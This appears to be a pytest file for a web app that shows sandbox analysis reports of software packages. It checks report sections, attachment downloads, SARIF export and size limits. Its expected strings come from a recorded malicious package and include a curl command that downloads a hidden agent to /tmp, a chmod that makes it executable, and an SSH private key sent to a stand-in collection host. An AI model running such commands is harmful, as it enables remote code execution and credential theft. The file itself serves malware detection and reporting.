"""A report's page over two recorded runs: the verdict first; whatever a package did, the page stays small."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from typing import Any

import pytest
from aiohttp.test_utils import TestClient, TestServer
from sarif_pydantic import Sarif

from pumpkin.web.pages import observed
from tests.web.pages import recorded
from tests.web.pages.site import Site, sign_in

Client = TestClient[Any, Any]
SECTIONS = ("verdict", "processes", "timeline", "files", "network", "decoys", "findings", "downloads", "others")


@pytest.fixture
async def client(site: Site) -> AsyncIterator[Client]:
    async with TestClient(TestServer(site.app)) as made:
        await sign_in(made, "vera")
        yield made


async def get(client: Client, path: str, status: int = 200) -> str:
    async with client.get(path) as answer:
        assert answer.status == status
        return await answer.text()


async def test_the_verdict_stands_first_and_each_thing_seen_has_its_place(site: Site, client: Client) -> None:
    first, number = await recorded.put(site, "1.0"), await recorded.put(site, "1.1")
    text = await get(client, f"/packages/reports/{number}")
    places = [text.index(f'id="{one}-head"') for one in SECTIONS]
    assert places == sorted(places)
    plain = re.sub(r"<[^>]+>", "", text)
    for words in (
        "writes where programs start by themselves, on installation",
        "curl -s http://updates.weather-stats.example/agent -o /tmp/.agent",
        "https://collect.weather-stats.example/v2/upload?host=build",
        "X-Campaign",
        "BEGIN OPENSSH PRIVATE KEY",
        "carries 5 secrets",
        "/home/dev/.ssh/id_rsa",
        "ssh key went to collect.weather-stats.example:443 over TLS",
        "system calls of install (strace, gzip)",
        "what is new since 1.0",
    ):
        assert words in plain, words
    tree = text[text.index('id="processes-head"') : text.index('id="timeline-head"')]
    assert tree.index("sh -c curl") < tree.index("chmod +x /tmp/.agent") < tree.index("curl -s http://x.weather")
    assert "secrets out 5" in text
    assert f"/packages/compare?a={first}&amp;b={number}" in text
    harmless = await get(client, f"/packages/reports/{first}")
    assert "None was read, and none was found in what left." in harmless
    changed = await get(client, f"/packages/compare?a={first}&b={number}")
    assert "collect.weather-stats.example" in changed


async def test_every_attachment_can_be_downloaded_and_is_never_shown(site: Site, client: Client) -> None:
    number = await recorded.put(site, "1.1")
    text = await get(client, f"/packages/reports/{number}")
    links = set(re.findall(rf"/api/v1/reports/{number}/buffers/[0-9a-f]{{64}}", text))
    assert len(links) == len(recorded.document("1.1")["analysis_results"]["attachments"])
    for link in links:
        async with client.get(link) as answer:
            assert answer.status == 200
            assert answer.content_type == "application/octet-stream"
            named = re.fullmatch(
                r'attachment; filename="(weather-stats-1\.1[-.][\w.-]+)"', answer.headers["Content-Disposition"]
            )
            assert named, answer.headers["Content-Disposition"]
            assert named[1].rpartition(".")[2] in ("pcap", "gz", "json", "log", "txt", "bin")
    async with client.get(f"/api/v1/reports/{number}/?format=sarif") as answer:
        assert answer.headers["Content-Disposition"] == 'inline; filename="weather-stats-1.1.sarif"'
    for link in ("?format=ossf", "?format=sarif", "bundle"):
        assert f"/api/v1/reports/{number}/{link}" in text


async def test_the_findings_of_a_report_can_be_had_for_code_scanners(site: Site, client: Client) -> None:
    number = await recorded.put(site, "1.1")
    async with client.get(f"/api/v1/reports/{number}/?format=sarif") as answer:
        assert answer.content_type == "application/sarif+json"
        (run,) = Sarif.model_validate(await answer.json()).runs
    found = recorded.document("1.1")["analysis_results"]["findings"]
    assert [one.rule_id for one in run.results or []] == [one["rule"] for one in found]


async def test_ten_thousand_events_and_ten_megabytes_in_a_line_stay_a_small_page(site: Site, client: Client) -> None:
    line = "<b>" + "x" * 10_000_000

    def much(results: dict[str, Any]) -> dict[str, Any]:
        phase = results["phases"][0]
        phase["events"] = (phase["events"] * 80)[:10_000]
        phase["processes"] = [
            {**phase["processes"][-1], "pid": pid, "ppid": pid - 1, "argv": ["sh", str(pid)]}
            for pid in range(100, 3_100)
        ]
        phase["processes"][0]["argv"] = [line]
        phase["files"] = [{**phase["files"][0], "create": 1, "path": f"/tmp/{n}"} for n in range(5_000)]
        phase["events"][0] = {
            "kind": "http",
            "time": 1.0,
            "method": "GET",
            "path": line,
            "headers": [[line[:99_999]] * 2],
        }
        return results

    number = await recorded.put(site, "1.1", change=much)
    address = f"/packages/reports/{number}"
    text = await get(client, address)
    assert len(text) < 400_000
    assert "2,880 more processes" in text
    assert line[:400] not in text
    events = await get(client, f"{address}/events")
    assert len(events) < 400_000
    assert 'rel="next"' in events
    assert "/tmp/4321" in await get(client, f"{address}/files?q=/tmp/4321")


async def test_all_events_and_all_paths_are_searched_by_their_own_pages(site: Site, client: Client) -> None:
    address = f"/packages/reports/{await recorded.put(site, '1.1')}"
    left = await get(client, f"{address}/events?kind=leak")
    assert left.count("secret left") == 5
    assert "decoy read" not in left
    assert "beacon.weather-stats.example" not in await get(client, f"{address}/events?kind=dns&phase=install")
    made = await get(client, f"{address}/files?did=create&q=.bashrc")
    assert made.count("<tr>") == 2
    assert "None fits" in await get(client, f"{address}/files?q=no-such-path")
    for odd in ("kind=%00", "phase=%F0%9F%8E%83", "skip=99999999", "skip=-1", "q=%3Cb%3E", "did=surprise"):
        await get(client, f"{address}/events?{odd}")
        await get(client, f"{address}/files?{odd}")
    await get(client, "/packages/reports/99/events", 404)


def test_processes_of_any_parentage_become_a_tree_that_ends() -> None:
    def process(pid: int, ppid: int | None) -> dict[str, Any]:
        return {"pid": pid, "ppid": ppid, "path": "/bin/sh", "argv": ["sh"], "start": 1.0, "end": None}

    def count(many: list[observed.Branch], depth: int = 1) -> tuple[int, int]:
        below = [count(one.children, depth + 1) for one in many if one.children]
        return len(many) + sum(one for one, _ in below), max([depth, *(deep for _, deep in below)])

    own, _ = observed.tree({"processes": [process(1, 1), process(2, 3), process(3, 2), process(2, 2)]}, None)
    assert count(own)[0] == 4
    deep, more = observed.tree({"processes": [process(pid, pid - 1) for pid in range(1, 400)]}, 0.0)
    assert count(deep) == (observed.PROCESSES, observed.DEPTH)
    assert more == 399 - observed.PROCESSES
    assert observed.tree({}, None) == ([], 0)
